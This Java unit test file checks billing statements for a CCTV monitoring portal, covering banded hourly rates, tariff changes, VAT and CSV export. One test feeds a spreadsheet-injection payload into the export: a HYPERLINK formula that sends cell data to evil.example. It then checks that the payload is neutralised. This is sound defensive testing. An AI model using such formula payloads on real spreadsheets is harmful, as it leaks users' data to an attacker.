package org.cctvportal.monitoring;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.List;
import org.cctvportal.monitoring.PricingBands.Band;
import org.junit.jupiter.api.Test;

/** Statements priced by band at the tariff in force on each delivered hour, to the penny, with VAT. */
class StatementTest {

    static final BigDecimal VAT = new BigDecimal("0.20");

    static Tariff tariff(CustomerKind kind, Tariff.Basis basis, String from, int day, int night, int weekend) {
        Tariff tariff = new Tariff();
        tariff.customerKind = kind;
        tariff.basis = basis;
        tariff.dayPence = day;
        tariff.nightPence = night;
        tariff.weekendPence = weekend;
        tariff.effectiveFrom = LocalDate.parse(from);
        return tariff;
    }

    static final TariffSchedule COUNCIL = new TariffSchedule(List.of(
            tariff(CustomerKind.COUNCIL, Tariff.Basis.CAMERA_HOUR, "2026-04-01", 165, 185, 210),
            tariff(CustomerKind.COUNCIL, Tariff.Basis.CAMERA_HOUR, "2027-01-15", 175, 195, 225)));

    static Occurrences.Period period(String from, String to) {
        return new Occurrences.Period(PricingBandsTest.london(from), PricingBandsTest.london(to));
    }

    static Statement.Usage usage(long id, int cameras, CustomerKind kind, long booked, Occurrences.Period... delivered) {
        return new Statement.Usage(id, "p", "Hub", 8, "group", cameras, kind, booked, List.of(delivered));
    }

    @Test
    void deliveredHoursArePricedByBandToThePennyWithVat() {
        // Wednesday 13 January 2027, 17:00 to 02:20: 2 h day at 1.65 and 7 h 20 min night at 1.85, on 7 cameras.
        Statement s = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(
                usage(1, 7, CustomerKind.COUNCIL, 560, period("2027-01-13T17:00", "2027-01-14T02:20")),
                usage(2, 3, CustomerKind.COUNCIL, 480)), COUNCIL, VAT);
        assertEquals(3, s.lines().size(), "a booking with nothing delivered yet shows without a charge");
        assertEquals("To come", s.lines().get(2).bandLabel());
        assertEquals(new BigDecimal("0.00"), s.lines().get(2).amount());
        Statement.Line day = s.lines().get(0);
        assertEquals(Band.DAY, day.band());
        assertEquals(new BigDecimal("2.00"), day.deliveredHours());
        assertEquals(new BigDecimal("1.65"), day.rate());
        assertEquals(new BigDecimal("23.10"), day.amount()); // 7 x 2 x 1.65
        assertEquals(new BigDecimal("94.97"), s.lines().get(1).amount()); // 7 x 7.3333 x 1.85 = 94.9666
        assertEquals(new BigDecimal("118.07"), s.total());
        assertEquals(new BigDecimal("23.61"), s.vat());
        assertEquals(new BigDecimal("141.68"), s.gross());
        assertEquals(new BigDecimal("9.33"), s.deliveredHours());
        assertEquals(new BigDecimal("17.33"), s.bookedHours());
    }

    @Test
    void aTariffChangingMidMonthPricesEachHourAtTheTariffOfItsDay() {
        // The rise starts on Friday 15 January 2027: Thursday night 20:00 to 04:00 is half at each rate; the
        // Saturday nights before and after are weekend hours at the old and the new weekend rate.
        Statement s = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(usage(1, 3, CustomerKind.COUNCIL,
                1440, period("2027-01-09T20:00", "2027-01-10T04:00"), period("2027-01-14T20:00", "2027-01-15T04:00"),
                period("2027-01-16T20:00", "2027-01-17T04:00"))), COUNCIL, VAT);
        assertEquals(4, s.lines().size(), s.lines().toString());
        assertEquals(List.of("NIGHT 2026-04-01 4.00 22.20", "WEEKEND 2026-04-01 8.00 50.40",
                "NIGHT 2027-01-15 4.00 23.40", "WEEKEND 2027-01-15 8.00 54.00"), s.lines().stream()
                        .map(l -> l.band() + " " + l.tariffFrom() + " " + l.deliveredHours() + " " + l.amount())
                        .toList());
        assertEquals(new BigDecimal("150.00"), s.total());
    }

    @Test
    void theClockChangeNightChargesTheHoursThatElapsed() {
        Statement s = Statement.build("p", "P", YearMonth.of(2027, 10), List.of(usage(1, 2, CustomerKind.COUNCIL,
                540, period("2027-10-30T20:00", "2027-10-31T04:00"))), COUNCIL, VAT);
        assertEquals(new BigDecimal("9.00"), s.deliveredHours());
        assertEquals(new BigDecimal("40.50"), s.total()); // 2 cameras x 9 h x 2.25
    }

    @Test
    void consoleHoursCountTheConsolesTheCamerasNeed() {
        // 17 cameras at 8 per operator need 3 consoles; 3 x 8 h x 22.50 = 540.00
        TariffSchedule consoles = new TariffSchedule(List.of(tariff(CustomerKind.COUNCIL, Tariff.Basis.CONSOLE_HOUR,
                "2026-04-01", 2250, 2600, 3000)));
        Statement s = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(usage(1, 17, CustomerKind.COUNCIL,
                480, period("2027-01-13T09:00", "2027-01-13T17:00"))), consoles, VAT);
        assertEquals(new BigDecimal("540.00"), s.total());
    }

    @Test
    void eachKindOfCustomerIsPricedAtItsOwnTariffAndNoTariffChargesNothing() {
        Statement s = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(usage(1, 1, CustomerKind.POLICE, 60,
                period("2027-01-13T09:00", "2027-01-13T10:00"))), COUNCIL, VAT);
        assertNull(s.lines().get(0).rate());
        assertEquals("No tariff", s.lines().get(0).basisLabel());
        assertEquals(new BigDecimal("0.00"), s.total());
    }

    /** A camera group or partner name typed as a formula reaches the hub's spreadsheet as text, not as a formula. */
    @Test
    void theCsvNeutralisesEveryTextCell() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
        Statement s = Statement.build("p", "@SUM(1+1)", YearMonth.of(2027, 1), List.of(new Statement.Usage(1, "p",
                "-Hub", 8, formula, 3, CustomerKind.COUNCIL, 480,
                List.of(period("2027-01-13T09:00", "2027-01-13T17:00")))), COUNCIL, VAT);
        for (boolean totalsOnly : new boolean[] { false, true }) {
            String csv = StatementCsv.csv(List.of(s), totalsOnly);
            try (var parser = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true)
                    .get().parse(new java.io.StringReader(csv))) {
                for (var record : parser.getRecords()) {
                    for (String cell : record.values()) {
                        assertFalse(cell.matches("^[=+@\\t\\r].*") || cell.matches("^-[^0-9].*"), cell + " in " + csv);
                    }
                    assertEquals("'@SUM(1+1)", record.get("partner"));
                    if (!totalsOnly && record.get("reference").startsWith("MB-")) {
                        assertEquals("'" + formula, record.get("camera_group"));
                        assertEquals("'-Hub", record.get("hub"));
                    }
                }
            }
        }
    }
}
